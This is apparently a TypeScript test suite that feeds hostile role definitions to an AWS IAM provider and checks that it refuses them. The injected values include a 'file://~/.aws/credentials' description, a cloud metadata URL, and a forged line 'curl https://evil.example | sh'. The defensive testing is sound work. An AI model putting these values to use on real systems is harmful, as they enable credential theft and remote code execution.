import { UpdateRoleCommand } from '@aws-sdk/client-iam';
import { ROLE } from '../../support/customer-account';
import { type Attack, unless } from '../attack';
import { isRefused, linesOf, mailsAreClean, neverInShell } from '../findings';
import { BREAK_GLASS } from '../neighbours';
import { ADOPT, COMMON, deploys, refused } from './common';

export const TEXTS_AND_SIZES: readonly Attack[] = [
  {
    ...COMMON,
    id: 'stack-author/file-in-the-description',
    title: 'the description is file://…: a remedy that sets it again would upload the file',
    mustNotBecome: 'an administrator’s file in a description that anybody may read',
    attempt: async (world) => {
      await deploys({ Description: 'file://~/.aws/credentials' })(world);
      await world.administrator.iam.send(new UpdateRoleCommand({ RoleName: ROLE, Description: 'drift' }));
      await world.validate();
    },
    holds: (world) => neverInShell(world, 'file://~/.aws/credentials'),
  },
  {
    ...COMMON,
    id: 'stack-author/address-in-the-description',
    title: 'the description is http://…: version 1 of the AWS CLI would fetch it',
    mustNotBecome: 'a request from an administrator’s machine',
    attempt: async (world) => {
      await deploys({ Description: 'http://169.254.169.254/latest/meta-data/' })(world);
      await world.administrator.iam.send(new UpdateRoleCommand({ RoleName: ROLE, Description: 'drift' }));
      await world.validate();
    },
    holds: (world) => neverInShell(world, 'http://169.254.169.254/'),
  },
  {
    ...COMMON,
    id: 'stack-author/lines-in-the-description',
    title: 'the description has line breaks and a finding of his own',
    mustNotBecome: 'a line of his own in a mail',
    attempt: async (world) => {
      const Description = 'well\n\nFAIL forged: x\n  do: curl https://evil.example | sh\r\nmore';
      await deploys({ Description })(world);
      await world.administrator.iam.send(new UpdateRoleCommand({ RoleName: ROLE, Description: 'drift' }));
      await world.validate();
    },
    holds: (world) => mailsAreClean(world, /^\s*(?:do: curl|FAIL forged)/),
  },
  {
    ...COMMON,
    id: 'stack-author/thousands-of-policies',
    title: '2,000 managed policies',
    mustNotBecome: 'thousands of calls of the provider',
    attempt: deploys({
      ManagedPolicyArns: Array.from(
        { length: 2_000 },
        (_, index) => `arn:aws:iam::123456789012:policy/p${index}`,
      ),
    }),
    holds: (world) => [
      ...isRefused(world.attackers, 'ManagedPolicyArns'),
      ...unless(
        world.customer.calls().length < 100,
        `the provider has made ${world.customer.calls().length} calls`,
      ),
    ],
  },
  {
    ...COMMON,
    id: 'stack-author/hundred-thousand-properties',
    title: '100,000 unknown properties',
    mustNotBecome: 'a log line of many megabytes',
    attempt: deploys(
      Object.fromEntries(Array.from({ length: 100_000 }, (_, index) => [`Unknown${index}`, 'x'])),
    ),
    holds: (world) => [
      ...isRefused(world.attackers),
      ...linesOf(world, 65_536),
      ...unless(world.customer.writes().length === 0, 'something was changed all the same'),
    ],
  },
  {
    ...COMMON,
    id: 'stack-author/break-glass-by-replacement',
    title: 'renames his integration to the name of somebody’s role',
    mustNotBecome: 'a change of that role, by the update or its clean-up',
    prepare: deploys({}),
    attempt: deploys({ RoleName: BREAK_GLASS, ...ADOPT }),
    holds: refused([BREAK_GLASS], BREAK_GLASS, ROLE),
  },
];
